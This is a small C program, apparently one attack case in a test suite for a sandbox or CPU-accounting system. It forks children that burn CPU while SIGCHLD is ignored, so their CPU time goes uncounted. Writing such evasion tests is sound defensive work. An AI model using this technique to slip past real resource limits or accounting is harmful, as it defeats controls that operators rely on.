/* Burns CPU time in children that nobody waits for. argv[1]: ms in all */
#include "attack.h"
#include <time.h>

static void burn(long ms) {
    struct timespec now;
    do
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    while (now.tv_sec * 1000 + now.tv_nsec / 1000000 < ms);
}

int main(int argc, char **argv) {
    trying("to hide CPU time");
    signal(SIGCHLD, SIG_IGN); /* children are reaped by the kernel, and their time is added nowhere */
    for (long ms = 0; ms < atol(argv[1]); ms += 100) {
        pid_t pid = fork();
        if (pid == 0) {
            burn(100);
            _exit(0);
        }
        while (kill(pid, 0) == 0)
            usleep(2000);
    }
    return done();
}
